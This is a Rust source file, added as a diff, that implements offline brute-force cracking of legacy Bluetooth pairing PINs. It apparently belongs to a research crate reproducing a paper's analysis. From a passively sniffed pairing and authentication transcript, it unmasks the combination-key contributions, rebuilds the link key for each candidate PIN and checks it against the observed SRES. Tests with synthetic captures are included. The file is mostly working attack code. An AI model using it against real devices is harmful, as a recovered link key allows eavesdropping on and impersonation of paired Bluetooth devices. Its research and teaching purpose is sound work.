@@ -1,0 +1,185 @@
+//! Offline PIN cracking against legacy (pre-SSP) pairing — the
+//! Shaked–Wool-style analysis behind the paper's references 14/15 and
+//! the stated reason SSP exists (§II-C: legacy pairing "has been recognized
+//! as vulnerable to diverse attacks").
+//!
+//! A passive sniffer of one legacy pairing sees, in the clear:
+//!
+//! * `IN_RAND` — the `E22` input,
+//! * both masked combination-key contributions `C_a = LK_RAND_a ⊕ K_init`
+//!   and `C_b = LK_RAND_b ⊕ K_init`,
+//! * a subsequent `LMP_au_rand` / `LMP_sres` authentication exchange.
+//!
+//! For every candidate PIN the attacker recomputes `K_init = E22(IN_RAND,
+//! PIN, claimant)`, unmasks both `LK_RAND`s, rebuilds the combination key
+//! with `E21`, and checks it against the observed `SRES`. A four-digit PIN
+//! falls in at most 10⁴ trials.
+
+use blap_crypto::e1;
+use blap_types::{BdAddr, LinkKey};
+
+/// The cleartext transcript of one legacy pairing plus one authentication,
+/// as a passive sniffer records it.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct LegacyPairingCapture {
+    /// Pairing initiator's address (the `E21` "device A").
+    pub initiator: BdAddr,
+    /// Pairing responder's address — also the `E22` claimant.
+    pub responder: BdAddr,
+    /// The initiator's `IN_RAND`.
+    pub in_rand: [u8; 16],
+    /// Initiator's masked contribution `LK_RAND_a ⊕ K_init`.
+    pub comb_initiator: [u8; 16],
+    /// Responder's masked contribution `LK_RAND_b ⊕ K_init`.
+    pub comb_responder: [u8; 16],
+    /// Verifier's challenge from the authentication that followed.
+    pub au_rand: [u8; 16],
+    /// The prover's observed response. The prover is the responder (the
+    /// initiator challenged it), so `E1` runs over the responder's address.
+    pub sres: [u8; 4],
+}
+
+impl LegacyPairingCapture {
+    /// Synthesizes the capture an eavesdropper would record for a pairing
+    /// with the given PIN and randomness — the test/bench generator.
+    pub fn synthesize(
+        initiator: BdAddr,
+        responder: BdAddr,
+        pin: &[u8],
+        in_rand: [u8; 16],
+        lk_rand_a: [u8; 16],
+        lk_rand_b: [u8; 16],
+        au_rand: [u8; 16],
+    ) -> Self {
+        let k_init = e1::e22(&in_rand, pin, responder);
+        let comb_initiator = xor16(&lk_rand_a, &k_init.to_bytes());
+        let comb_responder = xor16(&lk_rand_b, &k_init.to_bytes());
+        let key = combination_key(&lk_rand_a, initiator, &lk_rand_b, responder);
+        let sres = e1::e1(&key, &au_rand, responder).sres;
+        LegacyPairingCapture {
+            initiator,
+            responder,
+            in_rand,
+            comb_initiator,
+            comb_responder,
+            au_rand,
+            sres,
+        }
+    }
+
+    /// Reconstructs the link key a candidate PIN would have produced.
+    pub fn key_for_pin(&self, pin: &[u8]) -> LinkKey {
+        let k_init = e1::e22(&self.in_rand, pin, self.responder);
+        let lk_rand_a = xor16(&self.comb_initiator, &k_init.to_bytes());
+        let lk_rand_b = xor16(&self.comb_responder, &k_init.to_bytes());
+        combination_key(&lk_rand_a, self.initiator, &lk_rand_b, self.responder)
+    }
+
+    /// Whether a candidate PIN reproduces the observed `SRES`.
+    pub fn pin_matches(&self, pin: &[u8]) -> bool {
+        let key = self.key_for_pin(pin);
+        e1::e1(&key, &self.au_rand, self.responder).sres == self.sres
+    }
+}
+
+fn xor16(a: &[u8; 16], b: &[u8; 16]) -> [u8; 16] {
+    core::array::from_fn(|i| a[i] ^ b[i])
+}
+
+fn combination_key(
+    lk_rand_a: &[u8; 16],
+    addr_a: BdAddr,
+    lk_rand_b: &[u8; 16],
+    addr_b: BdAddr,
+) -> LinkKey {
+    let ka = e1::e21(lk_rand_a, addr_a);
+    let kb = e1::e21(lk_rand_b, addr_b);
+    LinkKey::new(xor16(&ka.to_bytes(), &kb.to_bytes()))
+}
+
+/// Result of a PIN-cracking run.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct CrackResult {
+    /// The recovered PIN.
+    pub pin: Vec<u8>,
+    /// The link key it yields.
+    pub link_key: LinkKey,
+    /// How many candidates were tested before the hit.
+    pub attempts: usize,
+}
+
+/// Brute-forces numeric PINs of up to `max_digits` digits against a
+/// captured transcript. Returns the first PIN whose reconstruction matches
+/// the observed `SRES`.
+pub fn crack_numeric_pin(capture: &LegacyPairingCapture, max_digits: u32) -> Option<CrackResult> {
+    let mut attempts = 0;
+    for digits in 1..=max_digits {
+        for value in 0..10u32.pow(digits) {
+            attempts += 1;
+            let pin = format!("{value:0width$}", width = digits as usize).into_bytes();
+            if capture.pin_matches(&pin) {
+                let link_key = capture.key_for_pin(&pin);
+                return Some(CrackResult {
+                    pin,
+                    link_key,
+                    attempts,
+                });
+            }
+        }
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn capture_with_pin(pin: &[u8]) -> LegacyPairingCapture {
+        LegacyPairingCapture::synthesize(
+            "11:11:11:11:11:11".parse().expect("valid address"),
+            "cc:cc:cc:cc:cc:cc".parse().expect("valid address"),
+            pin,
+            [0xA1; 16],
+            [0xB2; 16],
+            [0xC3; 16],
+            [0xD4; 16],
+        )
+    }
+
+    #[test]
+    fn four_digit_pin_cracks() {
+        let capture = capture_with_pin(b"4821");
+        let result = crack_numeric_pin(&capture, 4).expect("pin found");
+        assert_eq!(result.pin, b"4821");
+        assert_eq!(result.link_key, capture.key_for_pin(b"4821"));
+        assert!(result.attempts <= 11_110, "attempts {}", result.attempts);
+    }
+
+    #[test]
+    fn short_pins_crack_almost_instantly() {
+        let capture = capture_with_pin(b"07");
+        let result = crack_numeric_pin(&capture, 4).expect("pin found");
+        assert_eq!(result.pin, b"07");
+        assert!(result.attempts <= 110);
+    }
+
+    #[test]
+    fn wrong_pin_space_finds_nothing() {
+        // An alphanumeric PIN is outside the numeric search space.
+        let capture = capture_with_pin(b"zz!a");
+        assert_eq!(crack_numeric_pin(&capture, 3), None);
+    }
+
+    #[test]
+    fn cracked_key_matches_genuine_derivation() {
+        // The key reconstructed from the PIN equals the key the honest
+        // devices derived (synthesize + key_for_pin agree by construction;
+        // this pins the unmask/rebuild path against a tampered transcript).
+        let capture = capture_with_pin(b"1234");
+        let honest = capture.key_for_pin(b"1234");
+        let mut tampered = capture.clone();
+        tampered.comb_responder[0] ^= 1;
+        assert_ne!(tampered.key_for_pin(b"1234"), honest);
+        assert!(!tampered.pin_matches(b"1234"));
+    }
+}
